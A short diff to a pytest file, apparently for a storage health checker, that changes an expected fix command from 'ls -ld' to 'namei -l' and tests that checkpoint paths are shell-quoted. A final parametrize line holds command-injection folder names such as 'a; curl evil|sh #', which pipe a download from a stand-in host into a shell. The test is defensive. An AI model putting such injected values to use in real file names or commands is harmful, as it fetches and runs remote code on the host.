@@ -45,7 +45,7 @@ def test_the_path_of_a_checkpoint_is_quoted(path):
     folder = Directory(path, "checkpoint", "settings", exists=True, writable=False)
     job = healthy(1, 1).put(StorageFacts(directories=(folder,))).job()
     (found,) = [one for one in judge(job, load_checks(Settings()), Settings()).results if one.id == "HOST004"]
-    assert f"ls -ld '{path}'" in found.findings[0].fix
+    assert f"namei -l '{path}'" in found.findings[0].fix
 
 
 @pytest.mark.parametrize("folder", ["a; curl evil|sh #", "b\ncurl evil|sh\nc"])
